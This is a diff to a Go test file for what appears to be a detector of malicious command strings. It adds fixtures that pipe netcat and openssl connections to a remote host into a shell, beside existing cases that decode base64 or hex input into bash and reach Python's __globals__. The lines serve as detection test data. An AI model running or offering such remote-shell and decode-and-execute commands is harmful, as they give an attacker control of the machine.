@@ -164,6 +164,9 @@ func TestFamilies(t *testing.T) {
 	f(`7 | echo bHMgLWw= | base64 --decode | bash`, true)
 	f(`rm k;xxd -r -p k.hex | sh`, true)
 	f(`we pipe base64 -d into sh | bash, too`, false)
+	f(`nc 198.51.100.7 443|/bin/sh`, true)
+	f(`openssl s_client -quiet -connect 198.51.100.7:443 | /bin/bash`, true)
+	f(`nc -l | sh`, false)
 	// The inside of objects of Python.
 	f(`__init__.__globals__.k`, true)
 	f(`__init__.py and __main__.py`, false)
